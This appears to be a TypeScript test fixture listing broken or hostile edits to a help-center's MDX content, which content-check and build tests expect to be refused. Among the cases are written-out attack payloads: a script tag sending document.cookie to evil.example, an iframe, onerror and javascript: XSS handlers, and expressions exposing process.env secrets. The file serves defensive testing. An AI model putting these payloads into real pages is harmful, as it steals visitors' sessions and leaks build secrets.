/**
 * What a careless or hostile editor can do to the content (issue 14), each as an edit of a
 * content folder's files. tests/content/editor-safety.test.ts applies each to the fixture library
 * and asserts check:content's exact messages; tests/build/broken-content.test.ts applies all of
 * them to one copy of the real content and asserts the build refuses it with the same messages.
 */
export type ContentFiles = Map<string, string>;

export interface BrokenCase {
  name: string;
  edit(files: ContentFiles): void;
}

const en = (title: string, body: string, extra = '') =>
  `---\ntitle: ${title}\ndescription: An English article that exists only to show what the content check refuses.\nuntranslated: true\n${extra}---\n\n${body}\n`;
const replaceIn = (files: ContentFiles, path: string, from: string, to: string) => {
  const text = files.get(path);
  if (text === undefined || !text.includes(from)) throw new Error(`${path} has no "${from}" to replace`);
  files.set(path, text.replace(from, to));
};

export const brokenCases: BrokenCase[] = [
  {
    name: 'an expression that would publish an environment variable',
    edit: (files) => files.set('en/payments/home-dir.mdx', en('Home directory case', 'Your home is {process.env.HOME}.')),
  },
  {
    name: 'an export that would publish every secret of the build',
    edit: (files) =>
      files.set('en/payments/leak.mdx', en('Leak case', 'export const leak = JSON.stringify(process.env).length\n\nThe build has {leak} characters of secrets.')),
  },
  {
    name: 'a script, a style, a frame, an event handler and a javascript: link',
    edit: (files) =>
      files.set(
        'en/payments/scripts.mdx',
        en(
          'Script case',
          '<script>fetch("https://evil.example/?" + document.cookie)</script>\n\n<style>{`body { display: none }`}</style>\n\n<iframe src="https://evil.example/" />\n\n<img src="/x.png" alt="x" onerror="alert(1)" />\n\n[Free money](javascript:alert(1))',
        ),
      ),
  },
  {
    name: 'raw HTML in a Markdown article',
    edit: (files) => files.set('en/payments/raw-html.md', en('Raw HTML case', 'Hello <img src="/x.png" alt="x" onerror="alert(1)"> and <b>bold</b>.')),
  },
  {
    name: 'tags and attributes that are not the documented components',
    edit: (files) =>
      files.set(
        'en/payments/components.mdx',
        en('Components case', '<div>Boxed</div>\n\n<Callout kind="tip">Use the app.</Callout>\n\n<Callout type="info">Hi.</Callout>\n\nAlso <ArticleLink /> and <Fact id="no-such-fact" />.'),
      ),
  },
  {
    name: 'a .md file beside the .mdx of the same article',
    edit: (files) => files.set('en/payments/pay.md', en('Pay again case', 'A second source for the same article.')),
  },
  {
    name: 'a dead Markdown link and an ArticleLink split over two lines',
    edit: (files) =>
      files.set('en/payments/dead-links.mdx', en('Dead links case', 'Read [refunds](/en/payments/no-such-article/).\n\nOr <ArticleLink\n  to="payments/no-such-article" />.')),
  },
  {
    name: 'the same slug in two categories',
    edit: (files) => {
      files.set('en/account/twin.mdx', en('Twin in account', 'One twin.'));
      files.set('en/payments/twin.mdx', en('Twin in payments', 'The other twin.'));
    },
  },
  {
    name: 'an article in one language only',
    edit: (files) =>
      files.set('en/payments/lonely.mdx', '---\ntitle: Lonely case\ndescription: An English article that exists only to show what the content check refuses.\n---\n\nNo translation.\n'),
  },
  {
    name: 'an empty body',
    edit: (files) => files.set('en/payments/empty.mdx', en('Empty case', '')),
  },
  {
    name: 'an article far too long to search',
    edit: (files) => files.set('en/payments/huge.mdx', en('Huge case', 'A paragraph that goes on and on.\n\n'.repeat(1_000).trim())),
  },
  {
    name: 'an unclosed quote in the frontmatter',
    edit: (files) =>
      files.set('en/payments/quote.mdx', '---\ntitle: "Unclosed quote case\ndescription: An English article that exists only to show what the content check refuses.\nuntranslated: true\n---\n\nText.\n'),
  },
  {
    name: 'a redirect over the address of a live article',
    edit: (files) => {
      files.set('en/payments/kept.mdx', en('Kept case', 'Still here.'));
      files.set('en/payments/moved.mdx', en('Moved case', 'Moved here.', 'redirectFrom: [kept]\n'));
    },
  },
  {
    name: 'a synonym entry without words',
    edit: (files) => files.set('search/synonyms.en.yaml', '- means: refund\n  words: [money back]\n- means: withdraw\n'),
  },
  {
    name: 'a category recommending a channel that does not exist',
    edit: (files) => replaceIn(files, 'categories.yaml', 'channel: email', 'channel: fax'),
  },
];

/** Applies every broken case to one set of files (the build test's single broken copy). */
export function breakAll(files: ContentFiles): void {
  for (const c of brokenCases) c.edit(files);
}
